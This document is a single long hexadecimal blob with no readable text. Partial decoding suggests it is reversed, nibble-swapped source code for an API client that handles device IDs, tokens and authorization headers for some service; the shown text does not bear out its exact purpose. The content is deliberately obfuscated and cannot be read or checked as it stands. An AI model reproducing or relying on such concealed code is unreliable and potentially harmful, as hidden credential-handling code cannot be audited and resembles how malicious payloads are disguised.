2a0c2222202a322265786f556c6f627f597c696d61666220202020202020202a0c25646f636f597c696d61666f5567616b636160702a3225646f636f597c696d61666f5567616b6361607220202020202020202a0c22254e4f4e42202a32256079747f5e6f6964716277696d6220202020202020202a0c25637c6166402a32256e6964757f627f5e6f69647361637e6162747f53796220202020202020202a05627f6e6769602a356079747023202b702d3024616f6c6971607f577162702020202a022c69616475646f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a0a34736964602e3d2029202020202a05637c6166402d302c6f6f62602a347e656c6963702020202a0c2222202d30227473702a35646f636f547e61696271667f5567616b636160702020202a0c2222202d30227473702a35646f636f597c696d61666f5567616b636160702020202a0c227473702a35646f636f5e6f6964707f6f5567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567616b6361607f547567602665646a0a0d5221647164622b537562702e6275747562702020202a056e6f6e402e627574756270202020202020202a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e6960202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e696270702320202020202020202a09222d7375627b7a337562522668247e69627070202020202020202a09222d75646f636f59727f67656471636f5567616b6361607b7029727f676564716360227f66602375696c696d616660247567602f647024656c696166422668247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c247369646f54616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202a0c25657274502a322c62757f5e6f63696f586479677220202020202020202a0c25646f636f59727f67656471636f5567616b636160702a3225646f636f59727f67656471636f5567616b6361607220202020202020202a0c25637c6166402a32256c626165627168637f53796220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a32256079747f5e6f6964716277696d6220202020202020202a0b702d30247369646f54616f6c697160702020202a022375696c696d61666f2375627f64737d2c687f28367f29607162202d3028647160702020202a09222e2e2e2375696c696d616660276e6968636475664228247e696270702020202a0a34736964602e3d2029227473702a35646f636f59727f67656471636f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f596071682375696c696d61666f547567602665646a0a016471646f597c696d6166602e6275747562702020202a0a056e6f6e402e627574756270202020202020202a09222d75646f636f597c696d61666b70227f66602164716460297c696d61666024696c616670247567602f647024656c696166422668247e69627070202020202020202a0a356e6f6e40237960216471646f597c696d6166602669602020202a0a0a09222d756d616e6f597c696d61666b702a356d616e60297c696d6166402e2d747d6b7d356079747f5e6f6964716277696d602c2d75696b7d35637962707275647e656f537960286479677023737563636573522668247e696270702020202023202020202020202020202020202020202a0a347e656c696370247f6e6026696023202020202020202020202020202020202a05627f6e6769602a356079747023202d5221647164622b537562702d30216471646f597c696d6166602020202020202020202020202020202a0a3222202d3120256d616e6f597c696d61666026696020202020202020202020202a092222202c22256d616e62282475676e2d52297c696d61666f5567616b636160722b5d5221647164622b537562702d30256d616e6f597c696d61666020202020202020202020202a0020202020202020202020202a056e6f6e402e6275747562702020202020202020202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e696270702020202020202020202020202020202a09222d75646f636f597c696d61666b70297c696d616660247567602f647024656c696166422668247e696270702020202020202020202020202020202a0a322353554343455352202d3120292223757471647372282475676e2375627026696020202020202020202020202a092224535f4052202c2e656b6f647f5469602c247369646f54616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627020202020202020202020202a00202020202020202a0d7020202020202020202020202a022e6562202a32276e616c62202020202020202020202020202020202a0c25637c6166402a322e6f6964716277696d6f537962202020202020202020202020202020202a0c2222202a3225646f636f5c6162727566656272202020202020202020202020202020202a0c25657274502a32207c64607f537962202020202020202020202020202020202a0c2569602a3225637962707275647e656f537962202020202020202020202020202020202a0c25637c6166402a322975726f6475716f537962202020202020202020202020202020202a0c25646f636f597c696d6166602a3225646f636f597c696d61666f5567616b63616072202020202020202020202020202020202a0c247d602a32256079747f5e6f6964716277696d62202020202020202020202020202020202a0c25637c6166402a32256e6964757f627f5e6f69647361637e6162747f537962202020202020202020202020202020202a0c25657274502a32247e6566756f5465647163696465646f537962202020202020202020202020202020202a0c25657274502a322261647f576e69676761647f577f68637f537962202020202020202020202020202020202a0b702d30247369646f54616f6c6971607020202020202020202020202a0a09222e2e2e2d747d6b7d356079747f5e6f6964716277696d602c2d75696b7d35637962707275647e656f537960276e69697274522668247e6962707020202020232020202020202020202020202a0a347e656c696370247f6e60266960232020202020202020202020202a0b61656272602020202020202020202020202020202a0a356e6f6e40247f6e60237960216471646f597c696d61666026696020202020202020202020202a0a3473796c6f55637962707275647e656f5379602e6960256960227f6660202020202020202a0a0b616562726020202020202020202020202a0a356e6f6e40247f6e60237960216471646f597c696d616660266960202020202020202a0a3473796c6f556079747f5e6f6964716277696d602e6960247d60227f66602020202a0a056e6f6e402d30216471646f597c696d6166602020202a0a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a022473796c6f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a0a0a0d556079747f5e6f6964716277696d6b502d302473796c6f556079747f5e6f6964716277696d60202020202020202a0a356e6f6e40247f6e60237960256079747f5e6f6964716277696d602669602020202a0a0d55637962707275647e656f53796b502d302473796c6f55637962707275647e656f537960202020202020202a0a356e6f6e40247f6e6023796025637962707275647e656f5379602669602020202a0a0d502020202a022f4942505f5f445f584f4942505220202020202020202a0c22284f4942505f5f445f5542505220202020202020202a0c22254e4f4e4220202020202020202a0b502d302473796c6f556079747f5e6f6964716277696d602020202a0a0d502020202a0565727450202020202020202a0c25637c616640202020202020202a0b502d302473796c6f55637962707275647e656f5379602020202a09222e2e2e297c696d6166602567616b63616070276e6968636475664228247e69627070202020202020202a0a347e656c696370247f6e602669602020202a0a34736964602e3d20292a05637c6166402d302c6f6f62602a347e656c6963702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f597c696d61666f547567602665646a0a0d5221647164622b537562702e6275747562702020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e6962707023202020202a056e6f6e402e627574756270202020202020202a09222e2e2e25657e69647e6f63602f64702275647e6540237375627052282475707e6960202020202020202a0929223d347e65646e69602c2375627823707d65746e2e6f637a68247e69627070202020202020202a09222d75646f636f597c696d61666b70297c696d616660247567602f647024656c696166422668247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092224535f4052202c2e656b6f647f5469602c247369646f54616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a322e6f6964716277696d6f53796220202020202020202a0c2222202a3225646f636f5c616272756665627220202020202020202a0c25657274502a32207c64607f53796220202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f53796220202020202020202a0c25637c6166402a322975726f6475716f53796220202020202020202a0c25646f636f597c696d6166602a3225646f636f597c696d61666f5567616b6361607220202020202020202a0c256079747f5e6f6964716277696d602a32256079747f5e6f6964716277696d6220202020202020202a0c25637c6166402a32256e6964757f627f5e6f69647361637e6162747f53796220202020202020202a0c25657274502a32247e6566756f5465647163696465646f53796220202020202020202a0c25657274502a322261647f576e69676761647f577f68637f53796220202020202020202a0b702d30247369646f54616f6c697160702020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a022473796c6f237e6f6964707f6f2375627f64737d2c687f28367f29607162202d3028647160702020202a09222e2e2e297c696d6166602567616b63616070276e6968636475664228247e696270702020202a0a34736964602e3d20292a02254e4f4e42202d30227473702a356079747f5e6f6964716277696d602020202a0c25637c6166402d302c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08297c696d61666f547567602665646a0a0920302c2225636e616c61626f547e696f6072282475676e292d7b702c2229747c61697f6c62282475676e292d7b702c222164716462282475676e237562702e6275747562702020202a05637e6f6073756270256864702e69686479677024656473756e6023796025636e616c616260247e696f60702568645023202020202a00202020202020202a00302e627574756270202020202020202a09222e2e696f607021637963702c69626d61676e656d602c616761674228247e69627070202020202020202a0a337562702e6960247f6e6022216471646220227f60222353554343455352202d3120292223757471647372282475676e237562702669602020202a002020202a092224535f4052202c29222e656b6f647f546962282475676e237e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c29222e656b6f647f53737563636162282475676e237e656b6f64702a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c697160702020202a0e2e696f607f29747c61697f6c6021647164602e616b696c61626d65676e656d602b65747e65702e656b6f647f537375636361602e616b657c62756d656d60296e6960247e696f60746e654023202020202a022e69676f6c6f286475716f28367f29607162202d3028647160702020202a022222202020202a0e247e696f60746e65602f666e69602e69676f6c60256864702d6f62766025636e616c616260247e696f6070237722756375702568647023756863647566402020202a022222202020202a0a347e69602e3d202924736964602a337e656b6f64702c227473702a39756b6f5960716825636e616c61626f547e696f607f547567602665646a0a0d702020202a037567616b6361607f5c616963656073702a32237567616b6361607f5c6169636560737220202020202020202a0c237e6f69647163696669647f6e602a322e6f69647163696669647f6e6220202020202020202a0c2f666e696f59747c61697f6c602a3229747c61697f6c6220202020202020202a0b702e6275747562702020202a0a09276b607f54656474716d627f6668246e656070716e237567616b6361607f5c61696365607370202020202020202a0d70202020202020202a02676f51647f657b602a3222676f51647f657b622020202020202020202020202a0c247e65636275607f5e6f6b637964602a32247e65636275607f5e6f6b637964622020202020202020202020202a0c25636962707f5465647e657f63637964602a3225636962707f5e6f6b637964622020202020202020202020202a0c25636962707f5c616e696769627f602a3225636962707f5c616e696769627f622020202020202020202020202a0c292222202c222d616271607f5e6f6964736162282475676e276b60702a3224756b61607f55646f6b622020202020202020202020202a0c222d792727202c2729747964696c616677282475676e276b607b70292d792727202c27256c64796477282475676e276b607b78202d792727202c27256d616e6f597c696d616667282475676e276b607b7226602a32256d616e622020202020202020202020202a0b702d30276b607f54656474716d627f6660202020202020202a0a003025637c656025636962707f5c616e696769627f60266960292920302c203031302a2025636962707f5c616e696769627f602f202925636962707f5465647e657f63637964602d2025636962707f5c616e696769627f6828246e657f6278247e69602d30247e65636275607f5e6f6b63796460202020202020202a0920302c2725636962707f5465647e657f6363796467282475676e276b60702d3025636962707f5465647e657f6363796460202020202020202a0920302c2725636962707f5c616e696769627f67282475676e276b60702d3025636962707f5c616e696769627f60202020202020202a0a024740229682e0256479726029627164602320202923302a2a202432303138202f202c61647f647f51647f657b602d3022676f51647f657b60202020202020202a0a092920302c222c61647f6472282475676e247966656e656268247e69602d3b202c61647f647f51647f657b602020202020202020202020202020202a0a322144514442202d3d302922256079747f5164716462282475676e247966656e65626026696020202020202020202020202a0a392d5b502c2223747966656e656262282475676e276b60702e6960247966656e656260227f6660202020202020202a00302d302c61647f647f51647f657b60202020202020202a0a3372756e6e61626f597663702e6960276b6070227f66602020202a0d5b502d30237567616b6361607f5c616963656073702020202a092d5b502c222372756e6e616262282475676e216471646f597663702d302372756e6e61626f597663702020202a092d7b702c222164716462282475676e292d7b702c22257f697f527f666f5c61696365607372282475676e21647164602d30216471646f597663702020202a0a092d5b502c222164716462282475676e292d7b702c222e6f69647163696669647f6e62282475676e21647164602d30237e6f69647163696669647f6e602020202a0a0d702020202a092222202c22256d616e62282475676e292d7b702c22227569647f5c696164756462282475676e216471646f59747c61697f6c602a32256d616e6f527569647220202020202020202a0c2920302c22247e696f607f547e656272757362282475676e216471646f59747c61697f6c602a32247e696f607f547e65627275736220202020202020202a0b702d302f666e696f59747c61697f6c602020202a092d7b702c222164716462282475676e292d7b702c2229747c61697f6c62282475676e21647164602d30216471646f59747c61697f6c602020202a0a0d5221647164622b537562702d3021647164602020202a0a056e6f6e402e627574756270202020202020202a09227275602c222a3f666e696023747e656d67656370276e696474756760227f6272754228247e69627070202020202020202a0375627025637c65602924736964602c2375627825636e6164737e696379602669602922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702d3022727560202020202020202a0a39237562702e696022216471646220246e61602924736964602c2375627825636e6164737e6963796820247f6e602669602020202a0a056e6f6e402e627574756270202020202020202a09222d756b702a33747e656d67656370227f6660247375657175627029405140276e69646e656370227f627275422668247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d3023756270202020202020202a0a397274702020202a0a0d702020202a02264533393e4d2d4352202a32256d616e6f5c65646f6d6220202020202020202a0c22276e65737d616372202a32256d616e6f5275627574736166657e616d6220202020202020202a0c22246962202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254c4f425f5f4e42202a32256c6f627f5e616c607f597c696d61666220202020202020202a0c25636e616c6162602a3225636e616c61626f547e65627275736220202020202020202a0c22203e273e2832202a322e6f69637275667f5070716220202020202020202a0c2e656b6f647f537375636361602a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c697160702020202a0223747e656d6765637f28367f2960716f2462716f626863716462202d3028647160702020202a022222202020202a0e23727566666f602c61696365607370246e61602c237e6f69647163696669647f6e602c29747c61697f6c60256b696c6023747e656d67656370227563757023757f696271667023756863647566402020202a022222202020202a0a356e6f6e402c7024736964602e3d202920302d30247e69602a35636e616c6162602c227473702a3e656b6f647f537375636361602c227473702a3e656b6f647f5469602c227473702a39756b6f5960716823747e656d676563702665646a0a056e6f6e402e627574756270202020202020202a092375627025637c65602924736964602c2375627825636e6164737e696379602669602922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a31647f657170276e696474756760227f6272754228247e69627070202020202020202a0a35637c65602020202a0d75637c6166402a32246564796d696c6e657f53716862202c20302a322c61647f6472202c20302a32276e696e69616d6562722b702e62757475627020202020202020202020202a00302e6275747562702c25637e6f60737562702c6576637375636365737021602e6960216471646021647f6571702f6e40232020202020202020202020202a0a35637c6560202020202020202a0d7020202020202020202020202a0925637c6166402c22246564796d696c6e657f53716862282475676e21647f6571702a32246564796d696c6e657f53716862202020202020202020202020202020202a0c2920302c222c61647f6472282475676e21647f6571702a322c61647f6472202020202020202020202020202020202a0c2920302c22276e696e69616d656272282475676e21647f6571702a32276e696e69616d656272202020202020202020202020202020202a0b702e62757475627020202020202020202020202a0a31647f657170266960202020202020202a09222164716462282475676e292d7b702c2221647f657172282475676e2d5221647164622b537562702d3021647f657170202020202020202a0a337562702e696022216471646220246e61602924736964602c2375627825636e6164737e696379602669602020202a0a056e6f6e402e627574756270202020202020202a0925602c222a31647f657170227f6660247375657175627029405140276e69646e656370227f6272754228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d3023756270202020202020202a0a397274702020202a0a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a022972716d6d65737d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a022222202020202a0e2972716e6f6964736964602160237e627574756270246e61602c2d6568647023756471676562776761602c2371647f65717021647164602c6c616023756863647566402020202a022222202020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a39756b6f5960716821647f65717f5e69616d6f547567602665646a002020202a056e6f6e402e627574756270202020202020202a092922227f627275602e677f6e6b6e6552202c22227f62727562282475676e237562702c222a35636e616c616260276e696474756760227f6272754228247e69627070202020202020202a0a35637c65602020202a0d5225636e616c6162622b5d5221647164622b537562702e62757475627020202020202020202020202a0a3d5221647164622b537562702e69602225636e616c61626220266960202020202020202a0a337562702e696022216471646220246e6160237562702669602020202a002020202a09222d79223d347e65646e69602c2375627823707d65746e2e6f637a6b7e6c5a3d5635323d22474b522668247e6962707023202020202a092224535f4052202c2e656b6f647f5469602c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e25636e616c616260276e6968636475664228247e6962707023202020202a002020202a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c6971607f577162702020202a002020202a022479646562736d246e616d25636e616c61626f237567616b6361607f28367f29607162202d3028647160702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a39756b6f5960716825636e616c61626f547567602665646a0a056e6f6e4025637c65602375627026696029222164716462282475676e237562702e6275747562702020202a0a092224535f4052202c2e656b6f647f5469602c24616f6c6971607f577162702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e256c69666f627070276e6968636475664228247e6962707023202020202a0a0d702020202a022e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22203e273e2832202a322e6f69637275667f5070716220202020202020202a0c2e656b6f647f537375636361602a322e656b6f647f5373756363616220202020202020202a0b702d3024616f6c6971607f577162702020202a0a02256c69666f62707f28367f29607162202d3028647160702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a3e656b6f647f537375636361602c227473702a39756b6f59607168256c69666f62707f547567602665646a0a056e6f6e402e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a056e6f6e402e627574756270202020202020202a09222e2e2e2d7d5030353a3b547875647e207375627b7e6c5a39746f626025637e6f60737562502e2e677f6460256260247867696d60227566727563502e2e4f435a4024696c616670247f6e6023796025637e6f60737562502d52727560247375657175627b522668247e69627070202020202020202a092562716c6664657f6c634029627164602c4d445840227f627275602e616d616c6168602c21697e6c6163796d68202e4f435a402e616b65726025637e6f6073756270216b696a402320202020202020202a0a327f62727545646f6365644e4f435a4e2e6f637a60247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a0929247875647e20737562782374616f6c6e2e6f637a602c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a057c6578616460286962656c627564702e4f435a40296167616265637025637e6f607375627025637271607021626f63402320202020202020202a0a397274702020202a0a09222d79223d347e65646e69602c237275646165686823707d65746e2e6f637a6b702a33727564616568422668247e6962707023202020202a002020202a0920333d34757f656d6964702c2929746f626823707d65746e2e6f637a6d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a022d786471607b7f2d7c42555f5940514f554351424b7226602d302c6275702020202a0a002020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c29277f6e68207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7e656b6f647f54696b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0d5225627574716e6769637f58722b54616f6c6971607f546564707972736e65602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a0a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d696478277f6e6e256d696475647164602d30277f6e602020202a002020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a047369646f54616f6c6971607d34616f6c69716070202020202020202a0c2e656b6f647f54696d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c246f6864756d6d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a0a392a0c2224535f4052202d30227473702a346f6864756d602020202a0c227473702a3e656b6f647f5469602020202a0c24736964602a347369646f54616f6c697160702020202a0c227473702a38647160702020202a0c227473702a39756b6f596071602020202a08247375657175627f5960716f546e6563702665646a0a09746f62602e6275747562702020202a002020202a09222d792727202c272e6f6964707962736375646f527f62727567282475676e29746f626b702d202d7d57227f627275672b59746f626b702a35637e6f60737562702e6960227f627275422668227f62727545657c616650256379616270202020202020202a0a39746f62602e696022227f62727562202669602020202a092225637e6f60737562702e6960246e657f6660247f6e602e656b6f647024494228227f62727545657c616650256379616270202020202020202a0a39746f62602e6960247f6e60222e656b6f647f546962202669602020202a002020202a09282e6f637a6e20737562702d3029746f62602020202a0a09282375747164737f527f666f55637961627e20737562702020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222e247e657f63636160256864702464616d256270246e616025667f6d6562702371656c60502e24656279607875602e656b6f6470286375627665625228247e6962707020202020202020202020202a0a3225667964736160247f6e602e6f696373756352202d3d3029222e6f6964707962736375646f527f62727562282475676e29282e6f637a6e2073756270266960202020202020202a0a303034302d3d3025646f636f5375747164737e20737562702669602020202a0920333d34757f656d6964702c216471646d31647164602c237275646165686d33727564616568602c2c62757824737f607e2374737565717562702d3020737562702020202a0a0d702020202a0e656b6f647f58637562766562702a322e656b6f647f586375627665627220202020202020202a0c222e656b6f647f5863756276656272202a32256079747f547e6162776220202020202020202a0b702d3021647164602020202a0a0d702020202a022465646f636e656c62757d2d627f666d2777777d287f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c222449414055425052202a3225607974737265737d28716220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c222d784455514f53494351424b7023696371624226602a322e6f6964716a79627f686475716220202020202020202a0c20564f5851402a32247e6962707275676e69666d28716220202020202020202a0c22264533393e4d2d4352202a322c65646f6d6d2563696675646d247375657175627d28716220202020202020202a0c22276e65737d616372202a322563696675646d247375657175627d28716220202020202020202a0c24696f547375657175627f5871602a3224696d247375657175627d28716220202020202020202a0c24494f5543494655444f5851402a3224696d2563696675646d28716220202020202020202a0c24716f547375657175627f5871602a3224716d247375657175627d28716220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5d4149434f55435142402a3224737f684220202020202020202a0b702d3023727564616568602020202a0a09292824346965757e2469657578227473702d3024696f547375657175627f5871602020202a02203037303b22202b202d533d2a3b592226652e23552a3d452a38452454652d2d652d29552228256d6964766274737e277f6e602d3024716f547375657175627f5871602020202a073b245d4740232020292929273d3372757f686821647c6564656d696478256e6f6a756d696478277f6e6e256d696475647164602d30277f6e602020202a0a0c42555f50545f4f54594d424553502d302c6275702020202a0a327473702e3d2029227473702a3e656b6f647f58637562766562782e656b6f647f57756e6f547567602665646a0a056e6f6e402e627574756270202020202020202a09222d756b702a3d50747f6f54796d62657370227f6272754b522668247e69627070202020202020202a0a35602371602e6f69647075636875447375657175625e237473756571756270247075636875602020202a09746f626f5e6f637a602e627574756270202020202020202a09222e2c657663737563636573702e69676f6c4228247e69627070202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d7d572e6f6964707962736375646f527f627275672b59746f626f5e6f637a6b702a3d50747f6f54796d62657370227f6272754b522668247e6962707020202020202020202020202a0a39746f626f5e6f637a602e696022227f6272756220266960202020202020202a00202020202020202a09247875647e25637e6f60737562782374616f6c6e2e6f637a602d3029746f626f5e6f637a60202020202020202a0920333d34757f656d6964702c237275646165686d33727564616568602c24616f6c6971607d31647164602c2c62757824737f607e2374737565717562702d3025637e6f6073756270202020202020202a0a397274702020202a0a0d702020202a0c2145502a32247e6567614d227563755220202020202020202a0c222465646f636e656c62757d2d627f666d2777777d287f2e6f69647163696c60707162202a32256079745d247e65647e6f634220202020202020202a0c222449414055425052202a3225607974737265735d28714220202020202020202a0c29292824346965757e2469657578227473702a3224694d247375657175625d28714220202020202020202a0c22264533393e4d2d4352202a322c65646f6d4d2563696675644d247375657175625d28714220202020202020202a0c22276e65737d616372202a322563696675644d247375657175625d28714220202020202020202a0c2275646165686f5374702a3224714d247375657175625d28714220202020202020202a0c20564f5851402a32247e6962707275676e69664d28714220202020202020202a0c24494f5543494655444f5851402a3224694d2563696675644d28714220202020202020202a0c25627574716e676963702a3225627574716e6769635d2960714d28714220202020202020202a0c222d784455514f53494351424b7023696371624226602a322e6f6964716a79627f686475714220202020202020202a0c222272602c2564716c666564602c20796a7762202a32276e69646f636e654d2470756363614220202020202020202a0b702d3023727564616568602020202a0a0224696e65607f6d35607f6363762d747361647e6f636b7d347361647e6f636624627f67737371607d356079747f547e616277662d75646f636b7d35646f6366235d435d35607974547361647e6f636226602d3024616f6c697160702020202a0a0922235d4352202c25646f63602c247361647e6f63602c2e6769637f527f666f5374702c29756b6f5960716825627574716e6769637f5960716f5871602d3025627574716e676963702020202a0929253d337564757e696d6821647c6564656d6964702d2027347d676f577f6e682e6f6c6f636f54757f686479677f57347d676f5374702d302275646165686f5374702020202a0927347d676f577f6e682e6f6c6f636f54757f686479677f57347d676f5374702d302e6769637f527f666f5374702020202a092929273d3372757f686821647c6564656d696478256e6f6a756d696478277f6e6e256d696475647164602d3027347d676f577f6e602020202a0a0c42555f50545f4f54594d424553502d302c6275702020202a002020202a056e6f6e402e627574756270202020202020202a092224716d627f666025646f636020545f4024696c61667e694228247e69627070202020202020202a0a36302d31202925646f63682e656c60227f6025646f6360247f6e602669602020202a002020202a056e6f6e402e627574756270202020202020202a09222275626d657e6024696c61667e694228247e69627070202020202020202a0a39247361647e6f6368247361647e6f636f55647164696c616670247f6e602669602020202a0a39227473702a35646f63602c227473702a347361647e6f63602c227473702a39756b6f5960716820747f6f54796d626573702665646a002020202a056e6f6e402e627574756270202020202020202a09222d756b702a30545f40276e696473756571756270227f627275422668247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a0d5224696f52756269627363726573722b59746f626f5e6f637a602e627574756270202020202020202a00202020202020202a092225637e6f60737562702e6960246e657f6660247f6e60244940227562696273637265735228227f62727545657c61665025637961627020202020202020202020202a09292225637e6f60737562702e69602567616373756d60227f627275602f6e42202c22227f62727562282475676e29746f626f5e6f637a68247e6962707020202020202020202020202a0a39746f626f5e6f637a602e6960247f6e602224696f527562696273637265737220266960202020202020202a002020202a09247875647e25637e6f60737562782374616f6c6e2e6f637a602d3029746f626f5e6f637a60202020202020202a09247875647e25637e6f60737562702c2229746f626025637e6f607375627228247e69627070202020202020202a0920333d34757f656d6964702c276e6962747379727565717d337d61627160702c237275646165686d33727564616568602c24616f6c6971607d31647164602c2c6275702c222455474228247375657175627e2374737565717562702d3025637e6f6073756270202020202020202a0a397274702020202a09222e2e2e20545f40276e69647375657175625228247e696270702020202a0a0d702020202a0c2145502a32247e6567614d227563755220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5d4149434f55435142402a3224737f684220202020202020202a0c222e6f637a6f2e6f69647163696c60707162202a32256079745d247e65647e6f634220202020202020202a0c222449414055425052202a3225607974737265735d28714220202020202020202a0c24696f547375657175627f5871602a3224694d247375657175625d28714220202020202020202a0c22264533393e4d2d4352202a322c65646f6d4d2563696675644d247375657175625d28714220202020202020202a0c22276e65737d616372202a322563696675644d247375657175625d28714220202020202020202a0c24716f547375657175627f5871602a3224714d247375657175625d28714220202020202020202a0c20564f5851402a32247e6962707275676e69664d28714220202020202020202a0c24494f5543494655444f5851402a3224694d2563696675644d28714220202020202020202a0c222d784455514f53494351424b7023696371624226602a322e6f6964716a79627f686475714220202020202020202a0c222272602c2564716c666564602c20796a7762202a32276e69646f636e654d2470756363614220202020202020202a0b702d3023727564616568602020202a0222202d3024616f6c697160702020202a0a09292824346965757e2469657578227473702d3024696f547375657175627f5871602020202a0220303a37303b28373e26353a34333a32313450323d20313d2332303232202a34716d627f666023202029277f6e68207d616473756d69647f556b696c6f5166716a602d3024716f547375657175627f5871602020202a092929273d3372757f686821647c6564656d696478256e6f6a756d696478277f6e6e256d696475647164602d30277f6e602020202a002020202a0d702020202a0225637c616662202a32247361647e6f634564716e6275647c616220202020202020202a0c22235d4352202a3225607974547361647e6f636220202020202020202a0c247361647e6f63602a32247361647e6f636220202020202020202a0b702d30276e696274737972756571702020202a0a0c42555f50545f4f545547402d302c6275702020202a002020202a056e6f6e402e627574756270202020202020202a0a39247361647e6f6368247361647e6f636f55647164696c616670247f6e602669602020202a022736343938303639383738323632202a356c607d61687560247361647e6f634023202020202a0a327473702e3d2029227473702a347361647e6f636820747f6f547567602665646a0a05657274502e6275747562702020202a05637c6166402e627574756270202020202020202a09222275626d657e6024696c61667e694228247e69627070202020202020202a0a3431302e3029247361647e6f63682e656c60227f6029222832363228286479677374727164737e247361647e6f6360247f6e602669602020202a0a3c6f6f62602e3d2029227473702a347361647e6f6368247361647e6f636f55647164696c6166702665646a0a092221455228267e656475676e237f602d3021455a022e656b6f647f2473656e6e6f636d24696e65607f6f2c6f636f647f62707f2d6169636d2c687f237d6c6165627f22202b202c42555f5d4149434f55435142402d302c42555f50545f4f54594d4245535a092820766f58716f54616f6c602d3020564f58514a092824696f5563696675646f5871602d3024494f5543494655444f58514a0922284455514f53494351424228267e656475676e237f602d30284455514f53494351424a0220747f6f286475716f2d6169636d2c687f237d6c6165627f22202b202c42555f5d4149434f55435142402d302c42555f50545f4f5455474a0a0